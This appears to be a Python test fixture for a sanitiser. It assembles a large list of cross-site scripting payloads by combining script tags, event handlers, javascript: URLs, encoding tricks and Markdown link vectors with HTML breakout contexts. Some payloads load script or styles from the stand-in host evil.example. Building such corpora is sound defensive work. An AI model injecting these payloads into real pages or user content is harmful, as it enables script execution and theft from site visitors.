"""Ways to smuggle a script into a page: each vector in each context, and those only Markdown could make a link of."""

import os
from html import escape
from urllib.parse import quote

# Every one of them tries to call ``beacon()``, or to fetch from elsewhere.
CALL, ELSEWHERE = "beacon()", "//evil.example/x"
VECTORS = [
    f"<script>{CALL}</script>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<ScRiPt >{CALL}</sCrIpT>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<b onmouseover={CALL}>x</b>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java&#115;cript:{CALL}'>x</a>",
    f"<a href='\tjava\nscript:{CALL}'>x</a>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<form><button formaction=javascript:{CALL}>x</button></form>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<style>@import '{ELSEWHERE}.css'</style>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<marquee onstart={CALL}>x</marquee>",
]
CONTEXTS = [
    "{}".format,
    '">{}'.format,
    "'>{}".format,
    "-->{}".format,
    "</title>{}".format,
    "</textarea>{}".format,
    "</script>{}".format,
    "</style>{}".format,
    "]]>{}".format,
    "`{}`".format,
    "> {}".format,
    "[x]({})".format,
    "![x]({})".format,
    "{{{{ {} }}}}".format,
    escape,
    lambda vector: vector.replace("<", "<\0", 1),
    lambda vector: quote(vector, safe=""),
]
LINKS = [
    f"[x](javascript:{CALL})",
    f"[x](JaVaScRiPt:{CALL})",
    f"[x](java%73cript:{CALL})",
    f"[x](&#106;avascript:{CALL})",
    f"[x](javascript&colon;{CALL})",
    f"[x](<javascript:{CALL}>)",
    f"[x](<java\tscript:{CALL}>)",
    f"[x](\x01javascript:{CALL})",
    f"[x](vbscript:{CALL})",
    f"[x](data:text/html,<script>{CALL}</script>)",
    f"[x](feed:javascript:{CALL})",
    f"[x](x 'a\" onmouseover={CALL} b=\"')",
    f'[x](x "a" onmouseover={CALL})',
    f"[x]: javascript:{CALL}\n\n[x]",
    f"<javascript:{CALL}>",
    f"![x](javascript:{CALL})",
    f'![x" onerror="{CALL}](x)',
    f"[![x](x)](javascript:{CALL})",
    f"| a |\n|---|\n| <img src=x onerror={CALL}> |",
    f"```html\n<script>{CALL}</script>\n```",
]
ALL = list(dict.fromkeys([context(vector) for vector in VECTORS for context in CONTEXTS] + LINKS))
# In full all of them; otherwise one in eleven, which meets every vector and every context.
CHOSEN = ALL if os.environ.get("FODFAESTE_DRILL") == "full" else ALL[::11]
